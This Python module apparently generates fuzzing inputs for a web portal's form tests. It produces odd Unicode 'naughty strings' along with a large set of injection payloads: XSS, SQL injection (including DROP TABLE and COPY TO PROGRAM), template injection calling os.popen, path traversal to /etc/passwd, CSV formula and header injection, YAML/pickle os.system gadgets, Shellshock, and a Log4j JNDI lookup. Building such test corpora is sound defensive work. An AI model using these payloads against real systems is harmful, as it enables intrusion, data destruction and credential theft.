"""Strings that break programs, written afresh by category: naughty ones, and injections.

A naughty string is odd but honest: any language, any direction, any length. An injection wants
something: a script, an element, a row, a header, a file, a template. Whatever scripts they carry
call `hostile()`, set `window.hostile` or open a dialog, so that a browser can tell.
"""

from collections.abc import Callable, Iterator, Mapping
from functools import cache
from itertools import product
from typing import Final
from urllib.parse import quote

from portal.web.fields import is_plain, tidy

RUNS: Final = ("alert(1)", "hostile()", "window.hostile=1", "top['ale'+'rt'](1)")


def _planes() -> Iterator[str]:
    """A word of each script, the ends of each plane, and what has no character."""
    starts = (
        *(0x41, 0xC0, 0x100, 0x180, 0x250, 0x370, 0x400, 0x531, 0x5D0, 0x621, 0x710, 0x780),
        *(0x7CA, 0x904, 0x985, 0xA05, 0xA85, 0xB05, 0xB85, 0xC05, 0xC85, 0xD05, 0xD85, 0xE01),
        *(0xE81, 0xF40, 0x1000, 0x10D0, 0x1100, 0x1200, 0x13A0, 0x1401, 0x1681, 0x16A0, 0x1780),
        *(0x1820, 0x1900, 0x1950, 0x1A00, 0x1B05, 0x1B83, 0x1C00, 0x1E00, 0x1F00, 0x2C00, 0x2C80),
        *(0x2D00, 0x2D30, 0x3041, 0x30A1, 0x3105, 0x3131, 0x4E00, 0x9F00, 0xA000, 0xA500, 0xAC00),
        *(0xD700, 0xFB50, 0xFE70, 0xFF21, 0x10000, 0x10280, 0x10330, 0x10400, 0x10A00, 0x12000),
        *(0x13000, 0x16800, 0x1B000, 0x1D400, 0x1E900, 0x1F600, 0x20000, 0x2A700, 0x30000),
    )
    for start in starts:
        yield "".join(chr(start + step) for step in range(6))
    for plane in range(17):
        yield f"plane {plane}: {chr(plane << 16 | 0x0FFD)}"
    for code in (0xFFFD, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF, 0xE000, 0xF8FF, 0xF0000, 0x100000):
        yield f"nothing stands at {chr(code)} here"


def _directions() -> Iterator[str]:
    marks = (0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069)
    for mark in (*marks, 0x061C):
        yield f"before {chr(mark)} after"
        yield f"{chr(mark)}\u05e9\u05dc\u05d5\u05dd abc 123"
    for opening in (0x202A, 0x202B, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068):
        yield f"{chr(opening)}opened and never closed"
        yield f"{chr(opening) * 60}deep"
    yield "fdp.\u202eexe.report"
    yield "\u0645\u0631\u062d\u0628\u0627 hello \u05e9\u05dc\u05d5\u05dd 12:30"


def _invisible() -> Iterator[str]:
    spaces = (
        *(0xA0, 0xAD, 0x034F, 0x115F, 0x1160, 0x1680, 0x17B4, 0x17B5, 0x180E, 0x2800, 0x3000),
        *(0x3164, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0xE0001, 0xE0020, 0xE007F),
        *range(0x2000, 0x2010),
        *(0x2028, 0x2029, 0x202F, 0x205F, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x206A, 0x206F),
    )
    for code in spaces:
        yield f"a{chr(code)}b"
    for code in range(0xFE00, 0xFE10):
        yield f"\u2764{chr(code)}"
    yield "\tat the edge\t"
    yield "  two  spaces  "
    yield "line\r\nline\rline\nline\n\n\nend"


def _combined() -> Iterator[str]:
    for count in (1, 5, 30, 200):
        yield "Z" + "".join(chr(0x300 + step % 0x6F) for step in range(count)) + "algo"
    for base, mark in product("aeioun", (0x301, 0x308, 0x30A, 0x323, 0x338)):
        yield f"{base}{chr(mark)} composed or not"
    yield "\u1112\u1161\u11ab\u1100\u1173\u11af"
    yield "\u0958\u0959 \ufb01 \ufdfa \u212b \u2126 \u1e9b\u0323"
    yield "\u0300 begins with a mark"
    yield "\u0627\u0653\u0654\u0655\u064b\u064c"


def _emoji() -> Iterator[str]:
    people = ("\U0001f468", "\U0001f469", "\U0001f9d1")
    for person, tone in product(people, range(0x1F3FB, 0x1F400)):
        yield f"{person}{chr(tone)}"
    for one, other in product(people, people):
        yield f"{one}\u200d\u2764\ufe0f\u200d{other}"
        yield f"{one}\u200d{other}\u200d\U0001f467\u200d\U0001f466"
    for country in ("DE", "FR", "JP", "XX", "EU"):
        yield "".join(chr(0x1F1E6 + ord(letter) - 65) for letter in country)
    for key in "0123456789#*":
        yield f"{key}\ufe0f\u20e3"
    yield "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"
    yield "\u200d\u200d\u200d alone"


# fmt: off
WORDS: Final = (
    "undefined", "undef", "null", "NULL", "(null)", "nil", "NIL", "true", "false", "True",
    "False", "TRUE", "None", "NaN", "nan", "Infinity", "-Infinity", "inf", "hasOwnProperty",
    "__proto__", "constructor", "prototype", "toString", "then", "CON", "PRN", "AUX", "NUL",
    "COM1", "LPT9", ".", "..", "...", "/", "\\", "-", "--", "_", "~", "$", "%", "&", "'", '"',
    "`", "|", "<", ">", "{}", "[]", "()", ";", ":", ",", "?", "!", "@", "#", "^", "*", "+",
    "=",
)
NUMBERS: Final = (
    "0", "1", "-1", "00", "01", "-0", "1.0", "0.1", "1e3", "1E-400", "1e400", "0x0",
    "0xffffffff", "0b1", "0o7", "1,000", "1.000,00", "1_000", "2147483647", "2147483648",
    "-2147483649", "4294967296", "9223372036854775807", "9223372036854775808",
    "18446744073709551616", "99999999999999999999999", "123456789012345678901234567890",
    "0.1e-309", "٣", "४", "５", "½", "²", "１２３", "𝟙𝟚𝟛", "1/0", "0/0", "08", "09", "1e",
    "1.2.3.4", "::1", "2026-02-30", "0000-00-00", "24:61:61", "1970-01-01T00:00:00Z",
    "2038-01-19", "9999-12-31", "-1-01-01",
)
# fmt: on


def _words_of_programs() -> Iterator[str]:
    yield from (*WORDS, *NUMBERS)
    yield from (f"{{{{{word}}}}}" for word in ("", "x", " ", "}}{{"))


def _long() -> Iterator[str]:
    yield "a" * 4_000
    yield "w" * 300 + " " + "i" * 300
    yield "\U0001f600" * 1_500
    yield "\u0e01\u0e34" * 1_000
    yield "one word a line\n" * 400
    yield "https://example.org/" + "a/" * 600
    yield " ".join(["deep"] * 1_500)


def _formats() -> Iterator[str]:
    for directive in ("s", "n", "x", "p", "d", "f", "1$s", "99999d", ".9999f", "c", "%", "(key)s"):
        yield f"%{directive}"
        yield f"%{directive}" * 12
    for field in ("", "0", "x", "0.__class__", "x!r", "x:>999999", "settings.SECRET_KEY", "self"):
        yield f"{{{field}}}"
    yield "$(id) ${HOME} $HOME `id` %PATH% !x! ${IFS}"
    yield "\\n \\0 \\x00 \\u0000 \\ \\\\ \\' \\\" %00 %0a &#0; &#x0; &nbsp; &amp;amp;"


def _controls() -> Iterator[str]:
    for code in (*range(0x20), *range(0x7F, 0xA0)):
        yield f"control {code:02x}: {chr(code)}|"
    for code in (0xD800, 0xDBFF, 0xDC00, 0xDFFF):
        yield f"half a pair {chr(code)}|"


NAUGHTY_KINDS: Final = {
    "planes": _planes,
    "directions": _directions,
    "invisible": _invisible,
    "combined": _combined,
    "emoji": _emoji,
    "words of programs": _words_of_programs,
    "long": _long,
    "formats": _formats,
    "controls": _controls,
}


def _scripts() -> Iterator[str]:
    for run in RUNS:
        yield f"<script>{run}</script>"
        yield f"<ScRiPt >{run}</sCrIpT >"
        yield f"</textarea><script>{run}</script>"
        yield f"</title><script>{run}</script>"
        yield f'"><script>{run}</script>'
        yield f"'><script>{run}</script>"
        yield f"--><script>{run}</script><!--"
        yield f"]]><script>{run}</script>"
        yield f"<scr<script>ipt>{run}</scr</script>ipt>"
        yield f"<script/src=data:,{run}></script>"
        yield f"\u003cscript\u003e{run}\u003c/script\u003e"
        yield f"\uff1cscript\uff1e{run}\uff1c/script\uff1e"
        yield f"&lt;script&gt;{run}&lt;/script&gt;"
        yield f"%3Cscript%3E{quote(run)}%3C/script%3E"
        yield f"<script\n>{run}\n//"


def _handlers() -> Iterator[str]:
    tags = ("img src=x", "svg", "body", "video><source", "details open", "input autofocus", "a")
    events = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
    for tag, event in product(tags, events):
        yield f"<{tag} {event}={RUNS[1]}>"
    for event in (*events, "onpointerenter", "onbeforeinput", "oncontentvisibilityautostatechange"):
        yield f'" {event}="{RUNS[2]}" x="'
        yield f"' {event}='{RUNS[0]}' x='"
        yield f"` {event}={RUNS[1]} x=`"


def _addresses() -> Iterator[str]:
    for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:"):
        for run in RUNS[:2]:
            yield f"{scheme}{run}"
            yield f'<a href="{scheme}{run}">click</a>'
            yield f'<iframe src="{scheme}{run}"></iframe>'
            yield f'<form action="{scheme}{run}"><button>go</button></form>'
    yield '<meta http-equiv="refresh" content="0;url=javascript:hostile()">'
    yield '<base href="https://example.org/">'
    yield '<link rel="stylesheet" href="//example.org/x.css">'
    yield "<object data=javascript:hostile()></object><embed src=javascript:hostile()>"


def _markup() -> Iterator[str]:
    yield from (
        "<svg><script>hostile()</script></svg>",
        "<svg><animate onbegin=hostile() attributeName=x dur=1s>",
        "<svg><a><animate attributeName=href values=javascript:hostile() /><text y=20>x</text></a>",
        "<svg><foreignObject><iframe srcdoc='<script>hostile()</script>'></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hostile()&gt;'>",  # noqa: E501
        "<math><mi//xlink:href='data:x,<script>hostile()</script>'>",
        "<noscript><p title='</noscript><img src=x onerror=hostile()>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hostile()>",
        "<style>@import'//example.org/x';*{color:red}</style>",
        "<style><img src='</style><img src=x onerror=hostile()>'>",
        "<template><script>hostile()</script></template>",
        "<xmp><p title='</xmp><img src=x onerror=hostile()>'>",
        "<plaintext>everything after this",
        "<!--><img src=x onerror=hostile()>-->",
        "<![CDATA[<img src=x onerror=hostile()>]]>",
        "<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>",
        "<p style=\"background:url('javascript:hostile()')\">",
        "<marquee onstart=hostile()>x</marquee>",
        "<input type=hidden name=once value=x><input name=csrf_token value=x>",
        "<button formaction=/leave>press</button>",
        "<div id=main><h1>Another page</h1></div>",
        "<a id=x name=y href=//example.org>clobber</a>",
        "</main></body></html>",
        "</div></article></li></ol>",
        "<dialog open>now</dialog><details open ontoggle=hostile()>",
        "<portal src=//example.org></portal>",
        "<img src='//example.org/pixel.png'>",
        "<img srcset='//example.org/x.png 1x' sizes=1px>",
        "<video poster=//example.org/x.png></video>",
        "<bdo dir=rtl>turned</bdo><bdi>",
    )


def _queries() -> Iterator[str]:
    for quote_, comment in product(("'", '"', "`", "')", "'))", "';"), ("--", "#", "/*", ";%00")):
        yield f"{quote_} OR 1=1 {comment}"
        yield f"{quote_} UNION SELECT sealed FROM record {comment}"
    yield from (
        "'; DROP TABLE record; --",
        'Robert\'); DELETE FROM "case";--',
        "1; SELECT pg_sleep(10)",
        "' || (SELECT version()) || '",
        "' AND randomblob(1000000000) --",
        "'; ATTACH DATABASE '/tmp/x' AS x; --",
        "$$; COPY record TO PROGRAM 'id'; $$",
        "\\'; SELECT 1; --",
        "%' ESCAPE '!",
        "_%_%_%",
    )


def _templates() -> Iterator[str]:
    inside = (
        "7*7",
        "config",
        "self.__init__.__globals__",
        "''.__class__.__mro__[1].__subclasses__()",
        "cycler.__init__.__globals__.os.popen('id').read()",
        "request.environ",
        "csrf_token()",
        "url_for.__globals__",
    )
    for opening, closing in (("{{", "}}"), ("{%", "%}"), ("${", "}"), ("<%=", "%>"), ("#{", "}")):
        yield from (f"{opening}{one}{closing}" for one in inside)
    yield "{# gone #}"
    yield "{% include '/etc/passwd' %}{% extends x %}{% for a in range(99999999) %}x{% endfor %}"


def _paths() -> Iterator[str]:
    for up in ("../", "..\\", "..%2f", "..%252f", "....//", "..;/", "%2e%2e/", "..%c0%af"):
        yield up * 8 + "etc/passwd"
    yield from ("/etc/passwd", "C:\\boot.ini", "file:///etc/passwd", "\\\\server\\share", "~root")
    yield from ("/dev/null", "/proc/self/environ", "php://filter", "report.pdf%00.exe", ".htaccess")


def _spreadsheets() -> Iterator[str]:
    for sign in ("=", "+", "-", "@", "\t=", "\n=", " =", "\uff1d"):
        yield f'{sign}HYPERLINK("//example.org","x")'
        yield f"{sign}cmd|'/c calc'!A1"
        yield f"{sign}1+1"
    yield '",=1+1,"'
    yield "a;b,c\td|e"


def _lines() -> Iterator[str]:
    for end in (
        "\n",
        "\r\n",
        "\r",
        "\u2028",
        "\u2029",
        "\u0085",
        "%0d%0a",
        "\\r\\n",
        "\x0b",
        "\x0c",
    ):
        yield f"x{end}Set-Cookie: portal_mailbox=x"
        yield f"x{end}Location: //example.org"
        yield f"x{end}2026-03-02T09 ERROR forged=line"
        yield f"x{end}{end}<html>"
    yield "x\nBcc: everybody@example.org\n.\nQUIT"
    yield "\x1b[31mred\x1b[0m\x07"


def _objects() -> Iterator[str]:
    yield from (
        '{"__class__": "os.system"}',
        '{"status": "closed"}',
        '{"template": "level", "level": "4"}',
        '{"words": "said by somebody else"}',
        '{"rules": ["person:x"]}',
        '["a", "b"]',
        "!!python/object/apply:os.system ['id']",
        "cos\nsystem\n(S'id'\ntR.",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA==",
        "() { :;}; echo hostile",
        "; ls -la",
        "| id",
        "&& id",
        "$(touch x)",
        "*)(uid=*))(|(uid=*",
        "' or '1'='1' or ''='",
        "${jndi:ldap://example.org/x}",
        "[[1]]((2))",
        "[link](javascript:hostile())",
        "![x](//example.org/x.png)",
        "| a | b |\n|---|---|",
        "# heading\n\n<b>bold</b>",
    )


INJECTION_KINDS: Final = {
    "scripts": _scripts,
    "handlers": _handlers,
    "addresses": _addresses,
    "markup": _markup,
    "queries": _queries,
    "templates": _templates,
    "paths": _paths,
    "spreadsheets": _spreadsheets,
    "lines": _lines,
    "objects": _objects,
}


@cache
def naughty() -> tuple[str, ...]:
    """Return every naughty string, each once."""
    return _all(NAUGHTY_KINDS)


@cache
def injections() -> tuple[str, ...]:
    """Return every injection, each once."""
    return _all(INJECTION_KINDS)


def taken() -> list[str]:
    """Return those that a form takes, in the form in which they are kept: NFC, plain line ends."""
    tidied = dict.fromkeys(tidy(one) for one in (*naughty(), *injections()))
    return [one for one in tidied if is_plain(one) and one.strip()]


def refused() -> list[str]:
    """Return those that hold what only programs send: control characters, halves of pairs."""
    return [one for one in (*naughty(), *injections()) if not is_plain(tidy(one))]


def in_texts(most: int, between: str = "\n") -> list[str]:
    """Return all that are taken, in as few texts of at most so many characters as may be."""
    texts: list[str] = [""]
    for one in (text for text in taken() if len(text) <= most):
        longer = f"{texts[-1]}{between}{one}" if texts[-1] else one
        fits = len(longer) <= most
        texts = [*texts[:-1], longer] if fits else [*texts, one]
    return texts


def _all(kinds: Mapping[str, Callable[[], Iterator[str]]]) -> tuple[str, ...]:
    found = [one for kind in kinds.values() for one in kind()]
    return tuple(dict.fromkeys(found))
